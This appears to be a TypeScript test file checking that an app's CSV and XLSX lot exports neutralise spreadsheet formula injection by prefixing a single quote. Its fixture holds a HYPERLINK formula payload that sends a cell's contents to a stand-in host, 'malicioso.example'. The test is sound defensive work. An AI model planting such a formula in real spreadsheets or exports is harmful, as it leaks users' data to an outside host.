import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createTestContext, type TestContext } from '../../../test/test-app';
import { loadDemoLayers } from '../demo/demo-layers.loader';

let ctx: TestContext;
let projectId = 0;
let token = '';
const FORMULA = '=HYPERLINK("http://malicioso.example/?d="&A1,"Clique aqui")';
const CODE = '+5511999999999';

beforeAll(async () => {
  ctx = await createTestContext();
  const project = await ctx.db
    .selectFrom('projects')
    .select('id')
    .where('space', '=', 'jardim-das-palmeiras')
    .executeTakeFirstOrThrow();
  projectId = project.id;
  expect(await loadDemoLayers(ctx.db, ctx.services.layerImport)).toBeGreaterThan(500);
  const lot = await ctx.db
    .selectFrom('layers')
    .select('id')
    .where('projectId', '=', projectId)
    .where('type', '=', 'LOT')
    .orderBy('id')
    .executeTakeFirstOrThrow();
  await ctx.db
    .updateTable('layers')
    .set({ obs: FORMULA, customerCode: CODE })
    .where('id', '=', lot.id)
    .execute();
  token = await ctx.login('gerente@horizonte.com.br');
});
afterAll(() => ctx.close());

const download = (fileType: 'csv' | 'xls') =>
  ctx.app.inject({
    method: 'GET',
    url: `/api/v1/project/${projectId}/allotments/export?fileType=${fileType}&obs=HYPERLINK`,
    headers: bearer(token),
  });

describe('exports neutralise formula injection', () => {
  it('writes a lot observation and code that start a formula as quoted text in the CSV', async () => {
    const response = await download('csv');
    expect(response.statusCode, response.body).toBe(200);
    const [header, row, ...rest] = response.rawPayload.toString('utf8').slice(1).trim().split('\r\n');
    expect(rest).toEqual([]);
    const columns = header!.split(';');
    const cells = row!.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((cell) => cell.replace(/;$/, ''));
    const observation = cells[columns.indexOf('Observação')]!;
    expect(observation).toBe(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(cells[columns.indexOf('Código')]).toBe(`'${CODE}`);
  });

  it('writes them as text starting with a single quote in the XLSX', async () => {
    const response = await download('xls');
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Detecções')!;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const row = sheet.getRow(2);
    expect(sheet.rowCount).toBe(2);
    expect(row.getCell(header.indexOf('Observação')).value).toBe(`'${FORMULA}`);
    expect(row.getCell(header.indexOf('Código')).value).toBe(`'${CODE}`);
    expect(row.getCell(header.indexOf('Observação')).formula).toBeUndefined();
  });
});
